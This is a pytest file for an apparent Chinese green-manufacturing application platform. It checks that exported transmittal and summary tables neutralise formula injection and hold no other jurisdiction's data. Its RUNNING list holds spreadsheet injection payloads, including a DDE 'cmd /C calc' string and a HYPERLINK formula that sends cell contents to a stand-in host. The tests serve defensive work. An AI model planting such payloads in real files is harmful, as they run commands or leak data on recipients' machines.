"""The tables that offices send, taken from their pages: texts that would run, rows of others (78, 80)."""

from io import BytesIO
from zipfile import ZipFile

import pytest
from openpyxl import load_workbook

from accounts.models import Organization
from applications.models import Application, Printout, Round
from greenmfg.excel.texts import unescape
from tests.applications.test_transmittals import many
from tests.attacks.test_foreign import ABSENT
from tests.attacks.test_next_city import NAME, foreign, move
from tests.provincial import ProvincialStory

RUNNING = (
    '=HYPERLINK("http://x/?"&A1)', "+1+cmd|' /C calc'!A0", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1", "'=1",
)  # fmt: skip
PRODUCER = "绿色制造体系申报评价平台"


def pulled(client, path):
    answer = client.get(path)
    assert answer.status_code == 200
    assert "attachment" in answer.headers["Content-Disposition"]
    return answer.getvalue()


def texts_of(content):
    """What stands in the workbook, every cell of it text but the numbers that count its rows."""
    sheet = load_workbook(BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    counting = [cell for cell in cells if isinstance(cell.value, int)]
    assert {(cell.column, cell.data_type, cell.number_format) for cell in counting} <= {(1, "n", "0")}
    rest = [cell for cell in cells if cell not in counting]
    assert {(cell.data_type, cell.number_format) for cell in rest} == {("s", "@")}
    assert not [cell for cell in cells if cell.hyperlink or cell.comment]
    return [unescape(str(cell.value)) for cell in cells]


def parts_of(content):
    """The names of the parts of a workbook, and all that they say."""
    with ZipFile(BytesIO(content)) as book:
        return book.namelist(), b"".join(book.read(name) for name in book.namelist()).decode()


def expect_clean(content):
    """One visible sheet, no formula, no link, nothing of who has made it."""
    book, (names, inside) = load_workbook(BytesIO(content)), parts_of(content)
    assert [sheet.sheet_state for sheet in book.worksheets] == ["visible"]
    assert not any(column.hidden for column in book.active.column_dimensions.values())
    assert "<f>" not in inside
    assert not [name for name in names if "custom" in name or "external" in name or "comments" in name]
    told = book.properties
    assert told.creator == PRODUCER
    assert not any((told.lastModifiedBy, told.title, told.subject, told.description, told.keywords))


@pytest.fixture
def named(story):
    """A case of the city for each of the texts, its unit called by it."""
    rows = many(story, len(RUNNING))
    for row, name in zip(rows, RUNNING, strict=True):
        Organization.objects.filter(pk=row.organization_id).update(name=name)
    return rows


def test_attack_078_what_would_run_is_text_in_the_table_of_a_city(story, named, browse, do_jobs):
    """By the clerk's own page, with a formula for his own name; as a draft, and sent."""
    clerk, approver = browse("city_clerk"), browse("city_approver")
    told = {"filled_by": RUNNING[0], "phone": "0731-88886666", "application_ids": [row.pk for row in named]}
    page = clerk.act(f"/rounds/{story.round.pk}/transmittal/", told)
    path = page.headers["Location"]
    before = pulled(clerk, f"{path}table/xlsx/")
    assert approver.act(f"{path}send/", {"seen_version": 1}).status_code == 302
    assert browse("province_clerk").act(f"{path}receive/", {"seen_version": 2}).status_code == 302
    for content in (before, pulled(approver, f"{path}table/xlsx/")):
        texts = texts_of(content)
        assert sorted(text for text in texts if text in RUNNING) == sorted(RUNNING)
        assert sum(RUNNING[0] in text for text in texts) == 2  # the unit, and who has filled it in
        expect_clean(content)
    do_jobs()
    assert pulled(browse("province_clerk"), f"{path}table/pdf/").startswith(b"%PDF")


def test_attack_080_the_table_of_a_city_holds_its_own_rows_and_columns(story, browse):
    """A neighbour's case in the same round is in no cell, and no reader is given what is not his."""
    rows = many(story, 3)
    Organization.objects.update(industry="通用零部件制造")
    move(rows[-1], story.world.zhuzhou)
    clerk, case = browse("city_clerk"), foreign(story)
    path = f"/rounds/{story.round.pk}/transmittal/"
    told = {"filled_by": "周敏", "phone": "0731-88886666"}
    own = [row.pk for row in rows[:2]]
    assert clerk.act(path, {**told, "application_ids": [*own, case.pk]}).status_code == 422
    path = clerk.act(path, {**told, "application_ids": own}).headers["Location"]
    content = pulled(clerk, f"{path}table/xlsx/")
    texts, (_names, inside) = texts_of(content), parts_of(content)
    head = ["序号", "单位名称", "统一社会信用代码", "申报类别", "行业", "提交日期", "申报编号"]
    assert texts[3:10] == head
    assert len(texts) == 3 + 3 * len(head) + 1  # label, title, head; the columns and two rows; the note
    seal, person = story.sealed, story.world.owner.user
    secrets = (NAME, case.organization.uscc, case.number, "株洲", seal.sha256, seal.receipt, person.phone)
    for secret in (*secrets, person.email, story.world.city_clerk.user.email, "19.5"):
        assert secret not in inside, secret
    expect_clean(content)
    for form in ("xlsx", "pdf"):
        for name in ("neighbour", "far_department"):
            answers = [
                browse(name).get(f"/transmittals/{pk}/table/{form}/") for pk in (path.split("/")[2], ABSENT)
            ]
            assert [answer.status_code for answer in answers] == [404, 404]
        assert browse("owner").get(f"{path}table/{form}/").status_code == 403
        assert (
            browse("province_clerk").get(f"{path}table/{form}/").status_code == 404
        )  # a draft is the city's


@pytest.fixture
def reporting(in_hunan):
    """A round that leads to the national list, reported on 附件 1 of 257号: a case for each text."""
    story = ProvincialStory(in_hunan)
    assert story.selected
    Round.objects.update(level="national")
    story.round.refresh_from_db()
    many_selected(story)
    return story


def many_selected(story):
    first = story.selected
    rows = many(story, len(RUNNING))
    Application.objects.exclude(pk=first.pk).update(status="selected")
    for row, name in zip(rows, RUNNING, strict=True):
        Organization.objects.filter(pk=row.organization_id).update(name=name)


def test_attack_078_what_would_run_is_text_in_the_summary_table_of_the_province(reporting, browse, do_jobs):
    client = browse("province_approver")
    page = f"/rounds/{reporting.round.pk}/recommendation/"
    contents = [pulled(client, f"{page}recommended/")]
    seen = client.get(page).context["form"]["seen"].value()
    told = {"document_number": RUNNING[0], "issued_on": "2026-10-01", "seen": seen}
    path = client.act(page, told).headers["Location"]
    contents.append(pulled(client, f"{path}recommended/"))
    for content in contents:
        texts = texts_of(content)
        assert sorted(text for text in texts if text in RUNNING) == sorted(RUNNING)
        expect_clean(content)
    do_jobs()
    assert pulled(client, f"/printouts/{Printout.objects.get(kind='recommended').pk}/").startswith(b"%PDF")


def test_attack_080_the_summary_table_holds_what_is_printed_and_no_more(reporting, browse):
    path = f"/recommendations/{reporting.reported.pk}/recommended/"
    content = pulled(browse("province_clerk"), path)
    texts, (_names, inside) = texts_of(content), parts_of(content)
    assert texts[3:7] == ["序号", "工厂名称", "第三方机构名称", "行业"]
    row, person = reporting.selected, reporting.world.owner.user
    secrets = (row.number, row.organization.uscc, reporting.submitted.receipt, reporting.submitted.sha256)
    for secret in (*secrets, person.phone, person.email, "优中选优", "陈立", "李明"):
        assert secret not in inside, secret
    expect_clean(content)
    for name, status in (("city_clerk", 403), ("owner", 403), ("far_department", 404)):
        assert browse(name).get(path).status_code == status
        assert browse(name).get(path.replace(path.split("/")[2], str(ABSENT))).status_code == status
